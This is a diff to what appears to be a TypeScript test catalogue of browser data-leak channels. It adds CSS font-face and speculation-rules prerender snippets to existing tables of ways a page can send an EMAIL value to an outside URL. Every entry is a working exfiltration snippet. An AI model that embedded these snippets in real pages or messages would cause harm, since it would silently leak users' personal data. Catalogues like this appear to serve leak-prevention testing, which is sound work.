@@ -61,6 +61,7 @@ export const WAYS: Readonly<Record<string, string>> = {
   preload: `add('link', { rel: 'preload', as: 'fetch', crossOrigin: 'anonymous', href: URL + '?em=' + EMAIL })`,
   'poster address': `add('video', { poster: URL + '?em=' + EMAIL })`,
   'background image': `add('i', {}).style.background = 'url("' + URL + '?em=' + EMAIL + '")'`,
+  'font address': `add('style', { textContent: '@font-face { font-family: told; src: url("' + URL + '?em=' + EMAIL + '") }' }), add('i', { textContent: 'a' }).style.fontFamily = 'told'`,
   'imported style': `add('style', { textContent: '@import url("' + URL + '?em=' + EMAIL + '")' })`,
   'WebSocket address': `new WebSocket(URL.replace('https', 'wss') + '?em=' + EMAIL)`,
   'blob: frame': `add('iframe', { src: window.URL.createObjectURL(new Blob([inline], { type: 'text/html' })) })`,
@@ -80,6 +81,7 @@ export const OF_CHROMIUM: Readonly<Record<string, string>> = {
   'fetch, stream of the page’s own': `void fetch(URL, { method: 'POST', duplex: 'half', body: new ReadableStream({ start(to) { for (const part of ['{"em":"', EMAIL, '"}']) to.enqueue(new TextEncoder().encode(part)); to.close() } }) }).catch(() => {})`,
   'fetchLater, Blob': `fetchLater(URL, { method: 'POST', body: new Blob([EMAIL]), activateAfter: 0 })`,
   fetchLater: `fetchLater(URL, { method: 'POST', body: EMAIL, activateAfter: 0 })`,
+  'a page rendered ahead': `add('script', { type: 'speculationrules', textContent: JSON.stringify({ prerender: [{ urls: [new window.URL(URL).pathname + '?em=' + EMAIL] }] }) })`,
   'a ping': `add('a', { href: '#', ping: URL + '?em=' + EMAIL }).click()`,
 }
 
